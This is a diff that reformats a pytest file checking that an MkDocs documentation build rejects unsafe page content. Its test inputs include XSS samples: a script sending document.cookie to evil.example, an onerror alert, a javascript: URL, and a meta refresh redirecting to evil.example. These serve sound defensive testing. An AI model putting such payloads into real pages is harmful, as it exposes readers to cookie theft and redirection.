@@ -46,23 +46,31 @@ def _build(folder: Path, pages: dict[str, str], theme: Path = ROOT / "overrides"
         (folder / "docs" / "es" / name).parent.mkdir(parents=True, exist_ok=True)
         (folder / "docs" / "es" / name).write_text(text, encoding="utf-8")
     env = dict(os.environ, NO_MKDOCS_2_WARNING="1")
-    return subprocess.run([sys.executable, "-m", "mkdocs", "build", "--strict", "-d", str(folder / "site")],
-                          cwd=folder, env=env, capture_output=True, text=True)
+    return subprocess.run(
+        [sys.executable, "-m", "mkdocs", "build", "--strict", "-d", str(folder / "site")],
+        cwd=folder,
+        env=env,
+        capture_output=True,
+        text=True,
+    )
 
 
 @pytest.mark.slow  # a whole build; the real site's build (tests/conftest.py) already shows no false alarm
 def test_a_page_without_inline_script_builds(tmp_path):
     """The fixture itself builds: Material's snippets are files here, and script shown as code is text."""
-    result = _build(tmp_path, {"index.md": "# Inicio\n\n```html\n<button onclick=\"go()\">x</button>\n```\n"})
+    result = _build(tmp_path, {"index.md": '# Inicio\n\n```html\n<button onclick="go()">x</button>\n```\n'})
     assert result.returncode == 0, result.stdout + result.stderr
     assert "&lt;button onclick=" in (tmp_path / "site" / "index.html").read_text(encoding="utf-8")
 
 
-@pytest.mark.parametrize(("markdown", "named"), [
-    ("# Hola\n\nTexto.\n\n<script>fetch('https://evil.example/?' + document.cookie)</script>\n", "inline <script>"),
-    ('# Hola\n\n<img src="x.png" alt="" onerror="alert(1)">\n', "event handler onerror="),
-    pytest.param("# Hola\n\n[pulsa](javascript:alert(1))\n", "javascript: URL", marks=pytest.mark.slow),
-])
+@pytest.mark.parametrize(
+    ("markdown", "named"),
+    [
+        ("# Hola\n\nTexto.\n\n<script>fetch('https://evil.example/?' + document.cookie)</script>\n", "inline <script>"),
+        ('# Hola\n\n<img src="x.png" alt="" onerror="alert(1)">\n', "event handler onerror="),
+        pytest.param("# Hola\n\n[pulsa](javascript:alert(1))\n", "javascript: URL", marks=pytest.mark.slow),
+    ],
+)
 def test_inline_script_in_a_markdown_page_fails_the_build_naming_the_file(tmp_path, markdown, named):
     result = _build(tmp_path, {"index.md": "# Inicio\n", "guia/hostil.md": markdown})
     log = result.stdout + result.stderr
@@ -83,11 +91,14 @@ def test_materials_own_inline_snippets_fail_the_build_naming_the_template(tmp_pa
     assert "The theme's templates put into" in log and "inline <script> '__md_scope=" in log, log
 
 
-@pytest.mark.parametrize("markdown", [
-    # The finding: a refresh sent readers to another site; `unsafe-url` gave every link the page's address.
-    '# Hola\n\n<meta http-equiv="refresh" content="4;url=https://evil.example/">\n',
-    '# Hola\n\nTexto.\n\n<meta name="referrer" content="unsafe-url">\n',
-])
+@pytest.mark.parametrize(
+    "markdown",
+    [
+        # The finding: a refresh sent readers to another site; `unsafe-url` gave every link the page's address.
+        '# Hola\n\n<meta http-equiv="refresh" content="4;url=https://evil.example/">\n',
+        '# Hola\n\nTexto.\n\n<meta name="referrer" content="unsafe-url">\n',
+    ],
+)
 def test_a_meta_that_overrides_the_policies_fails_the_build_naming_the_file(tmp_path, markdown):
     result = _build(tmp_path, {"index.md": "# Inicio\n", "guia/hostil.md": markdown})
     log = result.stdout + result.stderr
@@ -103,5 +114,7 @@ def test_one_calculator_placed_twice_on_a_page_fails_the_build_naming_both(tmp_p
     result = _build(tmp_path, {"index.md": "# Inicio\n", "memoria.md": page})
     log = result.stdout + result.stderr
     assert result.returncode != 0 and "Traceback" not in log, log
-    assert ("docs/es/memoria.md: the calculator 'memory' is placed more than once on this page; "
-            "place each calculator once per page") in log
+    assert (
+        "docs/es/memoria.md: the calculator 'memory' is placed more than once on this page; "
+        "place each calculator once per page"
+    ) in log
